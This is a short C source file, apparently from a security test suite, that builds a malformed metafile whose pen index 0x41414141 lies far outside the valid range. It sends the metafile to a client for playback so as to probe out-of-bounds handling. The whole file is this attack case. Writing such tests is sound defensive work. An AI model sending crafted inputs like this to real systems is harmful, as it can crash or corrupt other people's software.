/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception */
/* A metafile makes a pen far beyond those that a file may have. */
#include "attacks/attacks.h"

enum w32_status w32_attack_metafile_pen_index(const struct w32_client *client)
{
    struct w32_message message = {0};

    w32_metafile_begin(&message, 0, 0);
    w32_metafile_rect(&message, W32_RECORD_RECT, (struct w32_rect){0, 0, 300, 300});
    w32_metafile_pen(&message, W32_METAFILE_PENS, 0x41414141, 1);
    w32_metafile_end(&message);
    return w32_message_send(&message, client, W32_METAFILE_PLAY);
}
